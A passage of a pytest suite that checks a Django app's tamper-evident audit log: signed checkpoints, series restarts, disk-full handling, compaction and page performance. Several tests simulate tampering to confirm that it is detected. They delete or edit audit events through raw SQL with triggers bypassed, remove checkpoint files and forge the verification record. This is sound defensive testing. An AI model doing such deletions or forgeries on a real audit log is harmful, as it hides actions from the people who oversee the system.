        call_command("audit_checkpoint")


def test_after_a_restore_an_admin_starts_a_new_checkpoint_series(chain, person, settings, capsys):
    """The database restored from a backup lacks the newest events the checkpoints
    signed: every checkpoint is refused until an admin says why. The old series is
    kept aside and named in an event; the new one verifies."""
    admin = person("heidi", "admins")
    person("olga", "approvers")
    first = audit.write_checkpoint(NOW)
    signed = first["seq"]
    with triggers_bypassed():
        sql("DELETE FROM governance_auditevent WHERE seq > %s", [signed - 2])  # "the restore"
    with pytest.raises(CommandError, match="--start-new-series"):
        call_command("audit_checkpoint")
    for args, refused in [
        (["--as", "heidi"], "--reason"),
        (["--reason", "restored"], "needs --as"),
        (["--reason", "restored", "--as", "olga"], "not an active admin"),
    ]:
        with pytest.raises(CommandError, match=refused):
            call_command("audit_checkpoint", "--start-new-series", *args)
    assert [c["file"] for c in audit.load_checkpoints()] == [first["file"]]
    call_command(
        "audit_checkpoint", "--start-new-series", "--as", "heidi",
        "--reason", "restored from the 03:00 backup after disk loss (INC-7)",
    )  # fmt: skip
    (new,) = audit.load_checkpoints()
    assert new["prev_signature"] == "" and new["seq"] == signed - 1
    event = AuditEvent.objects.get(event_type="audit.checkpoints_restarted")
    data = json.loads(event.data)
    assert event.actor == f"user:{admin.username}" and event.seq == signed - 1
    assert (data["files"], data["last_seq"], data["last_head"]) == (1, signed, first["head"])
    assert "INC-7" in data["comment"]
    kept = settings.AUDIT_CHECKPOINT_DIR / data["archived"] / first["file"]
    assert json.loads(kept.read_text())["signature"] == first["signature"]
    code, text = verify_output(capsys)
    assert code == 0 and f"ok: {signed - 1} events" in text


def test_a_restart_whose_event_cannot_be_written_moves_nothing(
    chain, person, settings, monkeypatch
):
    """The restart moved the old series aside before writing its event: against a
    database still read-only after a restore, the event failed (a traceback), the series
    sat archived with no record of it, and a retry recorded an empty folder instead of
    the one holding the evidence. The event comes first now, the files move in its
    transaction and go back if it fails. (A raising append stands in for the read-only
    server: a test's own transaction cannot be made read-only.)"""
    from django.db import DatabaseError

    person("heidi", "admins")
    first = audit.write_checkpoint(NOW)
    real = audit.append

    def read_only(**kwargs):
        if kwargs.get("event_type") == "audit.checkpoints_restarted":
            raise DatabaseError("cannot execute INSERT in a read-only transaction")
        return real(**kwargs)

    monkeypatch.setattr(audit, "append", read_only)
    args = ["--start-new-series", "--as", "heidi", "--reason", "restored (INC-7)"]
    with pytest.raises(CommandError, match="nothing was moved or signed"):
        call_command("audit_checkpoint", *args)
    directory = settings.AUDIT_CHECKPOINT_DIR
    assert [c["file"] for c in audit.load_checkpoints()] == [first["file"]]
    assert not list(directory.glob("archived-*"))
    assert not AuditEvent.objects.filter(event_type="audit.checkpoints_restarted").exists()

    monkeypatch.setattr(audit, "append", real)
    call_command("audit_checkpoint", *args)
    data = json.loads(AuditEvent.objects.get(event_type="audit.checkpoints_restarted").data)
    assert data["files"] == 1 and (directory / data["archived"] / first["file"]).exists()


def test_an_emptied_checkpoint_directory_is_a_finding_not_a_fresh_start(
    chain, person, settings, capsys
):
    """Whoever can write the database and the checkpoint directory deletes a week of the
    newest events and every checkpoint. The next checkpoint used to begin a new series
    over the shortened head, and verify said ok. The log says a series began: without
    its checkpoints nothing is signed and verify fails, until an admin says why."""
    from governance import tasks

    person("heidi", "admins")
    settings.AUDIT_CHECKPOINT_MAX_AGE = timedelta(0)  # not the stale-checkpoint alarm
    first = audit.write_checkpoint(NOW)
    started = AuditEvent.objects.get(event_type="audit.checkpoints_started").seq
    for i in range(4):
        access.access_check(agent="bot", tool="repo", action="read", scope=f"repo:acme/{i}", at=NOW)
    audit.write_checkpoint(NOW + timedelta(minutes=1))
    walked = audit.verify_chain(NOW + timedelta(minutes=1))
    with triggers_bypassed():
        sql("DELETE FROM governance_auditevent WHERE seq > %s", [first["seq"]])
    for path in settings.AUDIT_CHECKPOINT_DIR.glob("checkpoint-*.json"):
        path.unlink()

    expected = f"FAILED at seq {started}: the log says a checkpoint series began at seq {started}"
    code, text = verify_output(capsys)
    assert code == 1 and expected in text and "emptied" in text
    since = audit.verify_since(first["seq"], _hash_at(first["seq"]))  # the page's check
    assert since is not None and not since.ok and since.bad_seq == started
    with pytest.raises(audit.ChainBroken) as refused:
        audit.write_checkpoint(NOW + timedelta(minutes=2))
    assert refused.value.problem[0] == started
    with pytest.raises(CommandError, match="refused: not signed over a damaged log"):
        call_command("audit_checkpoint")
    assert tasks.audit_checkpoint.run()["refused"]
    assert audit.load_checkpoints() == []
    assert AuditEvent.objects.filter(event_type="audit.checkpoints_started").count() == 1
    assert walked.count > first["seq"]  # what was lost stays lost; the loss shows

    call_command("audit_checkpoint", "--start-new-series", "--as", "heidi", "--reason", "INC-9")
    capsys.readouterr()
    code, text = verify_output(capsys)
    assert code == 0 and text.startswith("ok: ")
    restarted = AuditEvent.objects.get(event_type="audit.checkpoints_restarted")
    assert json.loads(restarted.data)["files"] == 0  # nothing was there to keep aside


@contextmanager
def disk_full() -> Iterator[None]:
    """Writing a checkpoint fails as on a full disk: its temporary file is made, the
    rest of the text does not fit (ENOSPC). Other files are written as usual."""
    real = Path.write_text

    def full(self: Path, data: str, *args: object, **kwargs: object) -> int:
        if self.name.startswith(".checkpoint-"):
            real(self, data[:16])
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(self, data, *args, **kwargs)

    with pytest.MonkeyPatch.context() as patched:
        patched.setattr(Path, "write_text", full)
        yield


def test_a_first_checkpoint_that_cannot_be_written_leaves_no_series_start_behind(
    chain, settings, capsys
):
    """The log's first checkpoint recorded audit.checkpoints_started, then failed to
    write its file (the disk full): every later run took the directory for one emptied
    to hide deleted events, recorded audit.verify_failed with an alert, and signed
    nothing until an admin restarted the series. The start now commits only with its
    file, and no half-written temporary file is left either."""
    from governance import tasks

    directory = settings.AUDIT_CHECKPOINT_DIR
    with disk_full():
        with pytest.raises(CommandError, match="the checkpoint cannot be written"):
            call_command("audit_checkpoint")
        with pytest.raises(OSError, match="No space left"):
            tasks.audit_checkpoint.run()  # the job, a minute later
    assert AuditEvent.objects.count() == chain  # no start on record
    assert sorted(p.name for p in directory.iterdir() if p.name.endswith((".json", ".tmp"))) == []

    result = tasks.audit_checkpoint.run()  # the disk has room again
    assert "refused" not in result
    started = AuditEvent.objects.get(event_type="audit.checkpoints_started")
    assert result["seq"] == started.seq == chain + 1  # the first checkpoint signs it
    assert not AuditEvent.objects.filter(event_type="audit.verify_failed").exists()
    assert [c["file"] for c in audit.load_checkpoints()] == [result["file"]]
    capsys.readouterr()
    code, text = verify_output(capsys)
    assert code == 0 and text.strip() == f"ok: {chain + 1} events, head {started.hash}"
    # A start that committed had its checkpoint written: emptied now, it is a finding.
    (directory / result["file"]).unlink()
    assert tasks.audit_checkpoint.run()["bad_seq"] == started.seq
    assert AuditEvent.objects.filter(event_type="audit.verify_failed").count() == 1


def test_a_checkpoint_that_cannot_be_written_leaves_no_temporary_file(chain, settings):
    """The temporary file was removed only when linking it failed: a write that failed
    part-way left `.checkpoint-...tmp` behind, one per failed minute."""
    first = audit.write_checkpoint(NOW)
    with disk_full():
        for minute in (1, 2):
            with pytest.raises(OSError, match="No space left"):
                audit.write_checkpoint(NOW + timedelta(minutes=minute))
    assert [p.name for p in settings.AUDIT_CHECKPOINT_DIR.glob("*.tmp")] == []
    second = audit.write_checkpoint(NOW + timedelta(minutes=3))
    assert [c["file"] for c in audit.load_checkpoints()] == [first["file"], second["file"]]
    assert audit.verify_chain(NOW + timedelta(minutes=3)).ok


def test_a_restart_whose_first_checkpoint_cannot_be_written_moves_nothing(
    chain, person, settings, capsys
):
    """The restart committed its event and moved the old series aside, then failed to
    write the new series' first checkpoint (the disk full): the directory sat empty
    under a restart on record, which the job took for one emptied (audit.verify_failed
    and an alert every hour). The event, the move and that checkpoint now stand or fall
    together: the old series stays in place and goes on."""
    from governance import tasks

    person("heidi", "admins")
    first = audit.write_checkpoint(NOW)
    args = ["--start-new-series", "--as", "heidi", "--reason", "restored (INC-7)"]
    with disk_full(), pytest.raises(CommandError, match="the checkpoint cannot be written"):
        call_command("audit_checkpoint", *args)
    directory = settings.AUDIT_CHECKPOINT_DIR
    assert [c["file"] for c in audit.load_checkpoints()] == [first["file"]]
    assert not list(directory.glob("archived-*")) and not list(directory.glob("*.tmp"))
    assert not AuditEvent.objects.filter(event_type="audit.checkpoints_restarted").exists()

    result = tasks.audit_checkpoint.run()
    assert "refused" not in result
    assert [c["file"] for c in audit.load_checkpoints()] == [first["file"], result["file"]]
    assert not AuditEvent.objects.filter(event_type="audit.verify_failed").exists()
    assert verify_output(capsys)[0] == 0


def test_an_older_checkpoint_series_put_back_is_not_the_current_one(
    chain, person, settings, capsys
):
    """After a restart the old series is kept aside. Moved back in place of the new
    one, it still verifies on its own terms, but it is not the series the log says
    began last."""
    admin = person("heidi", "admins")
    old = audit.write_checkpoint(NOW)
    audit.restart_checkpoints(
        reason="drill", actor=audit.Actor.user(admin), at=NOW + timedelta(minutes=1)
    )
    restarted = AuditEvent.objects.get(event_type="audit.checkpoints_restarted").seq
    assert verify_output(capsys)[0] == 0
    for path in settings.AUDIT_CHECKPOINT_DIR.glob("checkpoint-*.json"):
        path.unlink()
    (aside,) = settings.AUDIT_CHECKPOINT_DIR.glob("archived-*")
    (aside / old["file"]).rename(settings.AUDIT_CHECKPOINT_DIR / old["file"])
    code, text = verify_output(capsys)
    assert code == 1
    assert f"FAILED at seq {restarted}: checkpoint {old['file']} begins a series" in text
    # Nor does the job sign onto it, nor the page's quick check pass it.
    with pytest.raises(audit.ChainBroken):
        audit.write_checkpoint(NOW + timedelta(minutes=2))
    since = audit.verify_since(restarted, _hash_at(restarted))
    assert since is not None and not since.ok and since.bad_seq == restarted


def test_a_series_from_before_series_were_recorded_is_adopted_and_then_held(
    chain, settings, capsys, monkeypatch
):
    """A log whose checkpoints predate audit.checkpoints_started never recorded a start,
    so emptying its directory still looked like a fresh start. Its next checkpoint adopts
    the series on record, naming the first file; from then on it is held like any."""
    with monkeypatch.context() as old_code:
        old_code.setattr(audit, "_begin_series", lambda *args: False)
        old_code.setattr(audit, "_adopt_series", lambda *args: False)
        first = audit.write_checkpoint(NOW)
    assert not AuditEvent.objects.filter(event_type="audit.checkpoints_started").exists()
    audit.write_checkpoint(NOW + timedelta(minutes=1))
    adopted = AuditEvent.objects.get(event_type="audit.checkpoints_started")
    assert json.loads(adopted.data) == {"adopted": first["file"]}
    assert verify_output(capsys)[0] == 0
    for i in range(3):
        access.access_check(agent="bot", tool="repo", action="read", scope=f"repo:acme/{i}", at=NOW)
    audit.write_checkpoint(NOW + timedelta(minutes=2))  # adopted once, not every minute
    assert AuditEvent.objects.filter(event_type="audit.checkpoints_started").count() == 1
    with triggers_bypassed():
        sql("DELETE FROM governance_auditevent WHERE seq > %s", [adopted.seq])
    for path in settings.AUDIT_CHECKPOINT_DIR.glob("checkpoint-*.json"):
        path.unlink()
    with pytest.raises(audit.ChainBroken) as refused:
        audit.write_checkpoint(NOW + timedelta(minutes=3))
    assert refused.value.problem[0] == adopted.seq
    code, text = verify_output(capsys)
    assert code == 1 and f"the log says a checkpoint series began at seq {adopted.seq}" in text


def test_two_restarts_at_one_instant_keep_both_series_aside(chain, person, settings):
    admin = person("heidi", "admins")
    audit.write_checkpoint(NOW)
    for _ in range(2):
        audit.restart_checkpoints(reason="drill", actor=audit.Actor.user(admin), at=NOW)
    folders = sorted(p.name for p in settings.AUDIT_CHECKPOINT_DIR.glob("archived-*"))
    assert len(folders) == 2 and folders[1] == f"{folders[0]}-2"
    assert audit.verify_chain(NOW).ok


@pytest.mark.parametrize(
    "garbage",
    ["not json", "{}", "[1, 2]", '{"seq": "5", "head": "x", "count": 5, "time": "now",'
     ' "prev_signature": "", "signature": ""}'],
)  # fmt: skip
def test_an_unreadable_checkpoint_is_a_finding_not_a_crash(
    chain, capsys, settings, monkeypatch, garbage
):
    """Garbage dropped into the checkpoint directory made verify raise, so no
    audit.verify_failed event was written and no alert went out."""
    from governance.web import queries

    signed = audit.write_checkpoint(NOW)["seq"]
    (settings.AUDIT_CHECKPOINT_DIR / "checkpoint-999999999-x.json").write_text(garbage)
    code, text = verify_output(capsys)
    assert code == 1
    assert "checkpoint checkpoint-999999999-x.json is unreadable" in text
    failed = AuditEvent.objects.get(event_type="audit.verify_failed")
    assert json.loads(failed.data)["bad_seq"] == signed + 1
    with pytest.raises(audit.ChainBroken):
        audit.write_checkpoint(NOW + timedelta(minutes=1))
    # A page names the newest checkpoint the job wrote (the pointer's), not a file put
    # there since; the last full walk (the verify above, recorded) names that.
    status = queries.chain_status(datetime.now(UTC))
    assert not status["ok"] and "checkpoint-999999999-x.json is unreadable" in status["problem"]
    (settings.AUDIT_CHECKPOINT_DIR / status["checkpoint"]["file"]).write_text(garbage)
    assert audit.latest_checkpoint()["unreadable"]  # a page shows it, never a 500


def test_events_after_a_checkpoint_still_verify(chain, capsys):
    call_command("audit_checkpoint")
    access.access_check(
        agent="bot", tool="repo", action="read", scope="repo:acme/x", at=NOW + timedelta(seconds=1)
    )
    code, text = verify_output(capsys)
    assert code == 0
    assert f"ok: {chain + 2} events" in text  # the events, the series' start, the new one


# --- A checkpoint a minute, for years: pages read few files, old ones are compacted -----


def _minutely(n: int, start: datetime) -> dict:
    """`n` more checkpoints a minute apart after the newest, over an idle log (the same
    head), written straight to the directory as the job would write them but without
    its queries; then one by the job itself, which leaves the pointer. Returns that."""
    directory = settings.AUDIT_CHECKPOINT_DIR
    last = audit.latest_checkpoint()
    index = int(last["file"].split("-")[1])
    for i in range(1, n + 1):
        at = start + timedelta(minutes=i)
        body = {k: last[k] for k in ("seq", "head", "count")}
        body |= {"time": audit._iso(at), "prev_signature": last["signature"]}
        body["signature"] = audit._sign_checkpoint(body)
        name = f"checkpoint-{index + i:09d}-{at.strftime('%Y%m%dT%H%M%S%fZ')}.json"
        (directory / name).write_text(audit.canonical_json(body))
        last = body | {"file": name}
    return audit.write_checkpoint(start + timedelta(minutes=n + 1))


class _Reads:
    """Counts what the code under it lists and reads in the checkpoint directory."""

    def __init__(self, monkeypatch) -> None:
        directory = os.fspath(settings.AUDIT_CHECKPOINT_DIR)
        self.listed: list[str] = []
        self.read: list[str] = []
        scandir, listdir, glob = os.scandir, os.listdir, type(settings.AUDIT_CHECKPOINT_DIR).glob
        read_text = type(settings.AUDIT_CHECKPOINT_DIR).read_text

        def listing(real, path):
            if os.fspath(path) == directory:
                self.listed.append(real.__name__)
            return real(path)

        def reading(path, *args, **kwargs):
            if os.fspath(path.parent) == directory:
                self.read.append(path.name)
            return read_text(path, *args, **kwargs)

        monkeypatch.setattr(os, "scandir", lambda path=".": listing(scandir, path))
        monkeypatch.setattr(os, "listdir", lambda path=".": listing(listdir, path))
        monkeypatch.setattr(
            type(settings.AUDIT_CHECKPOINT_DIR),
            "glob",
            lambda path, pattern: listing(lambda p: glob(p, pattern), path),
        )
        monkeypatch.setattr(type(settings.AUDIT_CHECKPOINT_DIR), "read_text", reading)


def test_the_audit_page_reads_a_few_checkpoints_however_many_the_directory_holds(
    chain, person, monkeypatch
):
    """The job writes a checkpoint a minute. Every /ui/audit/ view listed and sorted
    them all, three times (5.8 s at 50,000): now it reads the pointer and the few files
    it names, and lists nothing."""
    from django.test import Client

    audit.write_checkpoint(NOW)
    newest = _minutely(3000, NOW)
    # The nightly walk, recorded: the page shows it.
    mark = audit.verify_and_record(actor=audit.Actor.system("test"), at=NOW + timedelta(days=3))
    assert mark.ok, mark.render()
    ui = Client()
    ui.force_login(person("carol", "auditors"))

    reads = _Reads(monkeypatch)
    page = ui.get("/ui/audit/")
    assert page.status_code == 200 and newest["file"] in page.content.decode()
    assert audit.latest_checkpoint()["file"] == newest["file"]
    assert reads.listed == []
    # The last full walk's record, the pointer three times, the newest and first files.
    assert len(reads.read) <= 9, reads.read


def _more_events(n: int) -> None:
    with transaction.atomic():
        for i in range(n):
            audit.append(event_type="audit.viewed", actor=Actor.system("test"), at=NOW,
                         data={"view": "log", "n": i})  # fmt: skip


def _walked(monkeypatch) -> list[int]:
    """The seq of every event any walk of the chain reads from here on."""
    walked: list[int] = []
    rows = audit._rows

    def counted(after: int = 0) -> Iterator[dict]:
        for row in rows(after):
            walked.append(row["seq"])
            yield row

    monkeypatch.setattr(audit, "_rows", counted)
    return walked


def _auditor(person):
    from django.test import Client

    ui = Client()
    ui.force_login(person("carol", "auditors"))
    return ui


def test_the_audit_page_walks_only_the_events_after_the_newest_checkpoint(
    chain, person, monkeypatch
):
    """Each web process walked the whole chain on its first view and every 10 minutes
    after (33 s at 500,000 events, past gunicorn's worker timeout). A view now shows
    the last full walk's record and walks only the events after the newest checkpoint:
    the same events and queries with 30 or 330 events in the log."""
    ui = _auditor(person)
    walked = _walked(monkeypatch)
    costs = []
    for more in (20, 300):
        _more_events(more)
        audit.verify_and_record(actor=Actor.system("nightly"), at=NOW)  # the nightly walk
        signed = audit.write_checkpoint(NOW)
        _more_events(3)  # after the newest checkpoint: the view's own look is a fourth
        walked.clear()
        with CaptureQueriesContext(connection) as captured:
            body = ui.get("/ui/audit/").content.decode()
        assert walked == list(range(signed["seq"] + 1, signed["seq"] + 5))
        assert "verified</strong>" in body and "by system:nightly: ok" in body
        assert f"the newest checkpoint (seq {signed['seq']})" in body
        costs.append(len(captured))
    assert costs[0] == costs[1], costs


def test_without_a_checkpoint_the_page_says_failed_without_walking(
    chain, person, monkeypatch, settings
):
    """Before any checkpoint existed, every view walked the whole chain (14-48 s): a
    chain that is not OK was walked again each time. Verify fails a log with no
    checkpoint (its newest events could be deleted unseen), and so does the page,
    from the directory alone."""
    settings.AUDIT_CHECKPOINT_MAX_AGE = timedelta(minutes=15)
    ui = _auditor(person)
    walked = _walked(monkeypatch)
    for _ in range(2):
        body = ui.get("/ui/audit/").content.decode()
        assert "FAILED</strong>" in body and "no checkpoint outside the database" in body
    assert walked == []


def test_the_page_leaves_a_tail_longer_than_it_checks_unverified_and_unwalked(
    chain, person, monkeypatch
):
    """The checkpoint job behind (and AUDIT_CHECKPOINT_MAX_AGE 0, so not stale): the
    events after the newest checkpoint are more than a page walks. It says so, and
    walks none of them."""
    from governance.web import queries

    audit.write_checkpoint(NOW)
    audit.verify_and_record(actor=Actor.system("nightly"), at=NOW)
    _more_events(10)
    monkeypatch.setattr(queries, "TAIL_LIMIT", 5)
    walked = _walked(monkeypatch)
    body = _auditor(person).get("/ui/audit/").content.decode()
    assert "not verified</strong>: more than 5 events since the newest checkpoint" in body
    assert "FAILED" not in body and walked == []


def test_a_known_failure_shows_failed_on_the_page_whatever_its_own_check_finds(
    chain, person, capsys, settings
):
    """An edit under the newest checkpoint is found only by a full walk. Once one has
    found it, every view says FAILED: from the walk's signed record, and from its
    audit.verify_failed event when the record is deleted, put back from an older pass,
    or forged (who can write the checkpoint directory would need to delete the event
    from the log too, which breaks the chain)."""
    from governance.web import queries

    call_command("audit_checkpoint")
    assert verify_output(capsys)[0] == 0
    record = settings.AUDIT_CHECKPOINT_DIR / "verified.json"
    passed = record.read_text()
    assert json.loads(passed)["ok"] is True
    assert json.loads(passed)["by"] == "system:manage.py audit_verify"
    with triggers_bypassed():
        sql("UPDATE governance_auditevent SET scope = 'x' WHERE seq = 2")
    ui = _auditor(person)
    assert "verified</strong>" in ui.get("/ui/audit/").content.decode()  # not walked yet
    code, text = verify_output(capsys)
    assert code == 1 and "FAILED at seq 2" in text
    failed = AuditEvent.objects.get(event_type="audit.verify_failed")

    def page_says_failed(source: str) -> None:
        status = queries.chain_status(datetime.now(UTC))
        assert (status["state"], status["ok"]) == ("failed", False)
        assert any(f["bad_seq"] == 2 and f["source"] == source for f in status["findings"])
        body = ui.get("/ui/audit/").content.decode()
        assert "FAILED</strong> at seq 2" in body and "verified</strong>" not in body

    page_says_failed("the last full walk")
    assert json.loads(record.read_text())["ok"] is False
    record.unlink()
    page_says_failed(f"audit.verify_failed #{failed.seq}")
    record.write_text(passed)  # an older pass put back: the failure came after it
    page_says_failed(f"audit.verify_failed #{failed.seq}")
    forged = json.loads(passed) | {"count": failed.seq}  # "passed after the failure"
    record.write_text(json.dumps(forged))
    page_says_failed(f"audit.verify_failed #{failed.seq}")
    status = queries.chain_status(datetime.now(UTC))
    assert "the record of the last full walk is unreadable" in status["problem"]


def test_the_pages_checkpoint_reads_cost_the_same_at_5000_checkpoints_as_at_500(chain):
    """Measured as a ratio (the machine's speed cancels out): listing the directory
    made the 5,000 case ten times the 500 one."""
    import time

    audit.write_checkpoint(NOW)
    seq = audit.latest_checkpoint()["seq"]

    def page_reads() -> float:
        best = float("inf")
        for _ in range(7):
            started = time.perf_counter()
            for _ in range(10):
                audit.latest_checkpoint()
                audit._checkpoints_after(seq)
                audit._first_checkpoint()
            best = min(best, time.perf_counter() - started)
        return best

    _minutely(499, NOW)
    few = page_reads()
    _minutely(4500, NOW + timedelta(minutes=500))
    assert len(list(settings.AUDIT_CHECKPOINT_DIR.glob("checkpoint-*.json"))) == 5002
    many = page_reads()
    assert many < 3 * few, (few, many)


DAY0 = datetime(2026, 11, 25, 0, 15, tzinfo=UTC)


def _four_days(start: datetime = DAY0) -> list[dict]:
    """The job's checkpoints from `start` to about 13:26 three days later: every 30
    minutes (a minute each would be slow to write here), a gap from 10:15 to 13:15 on
    the second day (the job stopped), an event now and then so the heads move, and
    the last 70 a minute apart. Returns them all, oldest first."""
    at, n = start, 0
    while at < start + timedelta(days=3, hours=12):
        if not start + timedelta(days=1, hours=10) < at < start + timedelta(days=1, hours=13):
            if n % 5 == 0:
                with transaction.atomic():
                    audit.append(event_type="audit.viewed", actor=Actor.system("t"), at=at)
            audit.write_checkpoint(at)
            n += 1
        at += timedelta(minutes=30)
    _minutely(70, at)
    return audit.load_checkpoints()


def _written(checkpoint: dict) -> datetime:
    return datetime.fromisoformat(checkpoint["time"])


@pytest.fixture
def compacted(chain, settings) -> dict:
    """Four days of checkpoints, a printable report naming one of them, compacted
    keeping one day whole."""
    settings.AUDIT_CHECKPOINT_MAX_AGE = timedelta(minutes=60)
    settings.AUDIT_CHECKPOINT_KEEP_DAYS = 1
    series = _four_days()
    newest = series[-1]
    reported = next(cp for cp in series if _written(cp) == DAY0 + timedelta(hours=30))
    with transaction.atomic():
        audit.append(
            event_type="report.exported",
            actor=Actor.system("t"),
            at=_written(newest),
            data={"report": "access", "format": "print", "checkpoint": reported["file"]},
        )
    mark = audit.verify_chain(_written(newest))
    assert mark.ok and len(mark.gaps) == 1, mark
    done = audit.compact_checkpoints(at=_written(newest), actor=Actor.system("t"))
    return {"series": series, "newest": newest, "done": done, "mark": mark}


def test_compaction_keeps_the_window_and_one_a_day_and_verify_follows_its_bridges(compacted):
    series, newest = compacted["series"], compacted["newest"]
    cutoff = _written(newest) - timedelta(days=1)
    left = audit.load_checkpoints()
    # Within the window every checkpoint stays, untouched.
    assert [cp for cp in left if _written(cp) >= cutoff] == [
        cp for cp in series if _written(cp) >= cutoff
    ]
    # Before it: the series' first, the last of each day, both sides of the gap, and
    # the one the report names.
    kept_times = [_written(cp) - DAY0 for cp in left if _written(cp) < cutoff]
    assert kept_times == [timedelta(hours=h) for h in (0, 23.5, 30, 34, 37, 47.5)]
    gone = len(series) - len(left)
    assert gone > 100 and compacted["done"]["deleted"] == gone
    bridges = sorted(settings.AUDIT_CHECKPOINT_DIR.glob("bridge-*.json"))
    assert [b.name for b in bridges] == sorted(compacted["done"]["bridges"]) and len(bridges) == 5
    assert sum(json.loads(b.read_text())["files"] for b in bridges) == gone
    event = AuditEvent.objects.get(event_type="audit.checkpoints_compacted")
    deleted = sorted({cp["file"] for cp in series} - {cp["file"] for cp in left})
    assert json.loads(event.data) == {
        "deleted": gone,
        "first": deleted[0],
        "last": deleted[-1],
        "bridges": compacted["done"]["bridges"],
        "kept_days": 1,
    }
    assert deleted[0] == series[1]["file"]
    # The whole chain still verifies through every kept checkpoint; the gap is still
    # named, the day-long stretches between kept ones are not gaps.
    verdict = audit.verify_chain(_written(newest))
    assert verdict.ok, verdict.render()
    assert verdict.gaps == compacted["mark"].gaps
    since = audit.verify_since(compacted["mark"].count, compacted["mark"].head)
    assert since is not None and since.ok
    # The job goes on (numbering after the newest, not after the count of files), and
    # compacting again finds nothing more to do.
    later = audit.write_checkpoint(_written(newest) + timedelta(minutes=1))
    assert int(later["file"].split("-")[1]) == int(newest["file"].split("-")[1]) + 1
    again = audit.compact_checkpoints(at=_written(later), actor=Actor.system("t"))
    assert again == {"deleted": 0, "bridges": []}
    assert audit.verify_chain(_written(later)).ok


def _drop(path) -> None:
    path.unlink()


@pytest.mark.parametrize(
    "tamper, found",
    [
        ("tail", "event(s) were deleted"),
        ("edit", "content does not match its HMAC"),
        ("rewrite", "event hash differs from checkpoint"),
        ("anchor", "does not follow the previous checkpoint"),
        ("bridge", "does not follow the previous checkpoint"),
        ("forged bridge", "has a bad signature"),
    ],
)
def test_after_compaction_verify_still_finds_tampering(compacted, capsys, tamper, found):
    newest = compacted["newest"]
    directory = settings.AUDIT_CHECKPOINT_DIR
    day2 = next(
        cp for cp in audit.load_checkpoints() if _written(cp) == DAY0 + timedelta(hours=47.5)
    )
    bridge = directory / compacted["done"]["bridges"][2]
    if tamper == "tail":  # the newest events deleted
        with triggers_bypassed():
            sql("DELETE FROM governance_auditevent WHERE seq > %s", [newest["seq"] - 2])
    elif tamper == "edit":  # an old event, in the compacted stretch
        with triggers_bypassed():
            sql("UPDATE governance_auditevent SET scope = 'x' WHERE seq = 5")
    elif tamper == "rewrite":  # deleted back into compacted history, written again
        _delete_tail_and_write_again(newest["seq"], keep=day2["seq"] - 3)
    elif tamper == "anchor":  # a kept day's checkpoint removed
        _drop(directory / day2["file"])
    elif tamper == "bridge":
        _drop(bridge)
    else:
        body = json.loads(bridge.read_text()) | {"files": 1}
        bridge.write_text(json.dumps(body))
    verdict = audit.verify_chain(_written(newest))
    assert not verdict.ok and found in verdict.problem, verdict.render()
    code, text = verify_output(capsys)
    assert code == 1 and found in text


def test_compaction_refuses_a_damaged_series_and_deletes_nothing(chain, settings):
    settings.AUDIT_CHECKPOINT_KEEP_DAYS = 1
    series = _four_days()
    with triggers_bypassed():
        sql("DELETE FROM governance_auditevent WHERE seq > %s", [series[-1]["seq"] - 2])
    with pytest.raises(audit.ChainBroken, match="were deleted"):
        audit.compact_checkpoints(at=_written(series[-1]), actor=Actor.system("t"))
    assert audit.load_checkpoints() == series
    assert not AuditEvent.objects.filter(event_type="audit.checkpoints_compacted").exists()


def test_a_compaction_stopped_part_way_still_verifies_and_the_next_one_finishes(
    chain, settings, monkeypatch
):
    settings.AUDIT_CHECKPOINT_KEEP_DAYS = 1
    series = _four_days()
    at = _written(series[-1])
    unlink, deleted = type(settings.AUDIT_CHECKPOINT_DIR).unlink, []

    def power_cut(path, missing_ok=False):
        if path.name.startswith("checkpoint-"):
            if len(deleted) == 30:
                raise OSError("power cut")
            deleted.append(path.name)
        return unlink(path, missing_ok=missing_ok)

    with monkeypatch.context() as cut:
        cut.setattr(type(settings.AUDIT_CHECKPOINT_DIR), "unlink", power_cut)
        with pytest.raises(OSError, match="power cut"):
            audit.compact_checkpoints(at=at, actor=Actor.system("t"))
    assert len(audit.load_checkpoints()) == len(series) - 30
    verdict = audit.verify_chain(at)
    assert verdict.ok, verdict.render()
    audit.compact_checkpoints(at=at, actor=Actor.system("t"))
    left = [cp["file"] for cp in audit.load_checkpoints()]
    assert len(left) < len(series) - 100
    assert audit.verify_chain(at).ok
    events = AuditEvent.objects.filter(event_type="audit.checkpoints_compacted")
    assert [json.loads(e.data)["deleted"] for e in events.order_by("seq")][1] == (
        len(series) - 30 - len(left)
    )


def test_compaction_never_deletes_the_newest_checkpoints(chain, settings):
    """Whatever time it is told: the window ends at the newest checkpoint. And the
    code that deletes refuses the newest, the first, or one in the window outright."""
    settings.AUDIT_CHECKPOINT_KEEP_DAYS = 1
    series = _four_days()
    newest = series[-1]
    far = _written(newest) + timedelta(days=1000)
    audit.compact_checkpoints(at=far, actor=Actor.system("t"))
    day = [cp for cp in series if _written(cp) >= _written(newest) - timedelta(days=1)]
    assert audit.load_checkpoints()[-len(day) :] == day
    directory = settings.AUDIT_CHECKPOINT_DIR
    old = next(
        cp for cp in audit.load_checkpoints() if _written(cp) == DAY0 + timedelta(hours=23.5)
    )
    for name in (newest["file"], series[0]["file"], day[0]["file"], day[1]["file"], old["file"]):
        with pytest.raises(RuntimeError, match="refused to delete"):
            audit._delete_compacted(directory, [name], [], protected={old["file"]})
        assert (directory / name).exists()


def test_a_restart_moves_the_bridges_aside_with_their_series(compacted, person, settings):
    at = _written(compacted["newest"]) + timedelta(minutes=1)
    audit.restart_checkpoints(reason="drill", actor=Actor.user(person("heidi", "admins")), at=at)
    directory = settings.AUDIT_CHECKPOINT_DIR
    (aside,) = directory.glob("archived-*")
    assert list(directory.glob("bridge-*.json")) == []
    assert sorted(p.name for p in aside.glob("bridge-*.json")) == sorted(
        compacted["done"]["bridges"]
    )
    assert audit.latest_checkpoint()["prev_signature"] == ""  # the new series' first
    assert audit.verify_chain(at).ok


def test_compaction_is_off_with_keep_days_0(chain, settings):
    settings.AUDIT_CHECKPOINT_KEEP_DAYS = 0
    series = _four_days()
    assert audit.compact_checkpoints(at=_written(series[-1]), actor=Actor.system("t")) == {
        "deleted": 0,
        "bridges": [],
    }
    assert audit.load_checkpoints() == series


# --- Concurrent writers ----------------------------------------------------------

WRITERS = 6
APPENDS_EACH = 15


@pytest.mark.django_db(transaction=True)
def test_concurrent_appends_make_one_gapless_verifying_chain(postgres_only):
    """Writers in parallel transactions (threads, each with its own connection)
    append at once. Each holds the chain lock a little while before COMMIT, so
    the others queue on it inside governance_audit_append(); the head each
    then reads must be the previous holder's committed event, or the chain
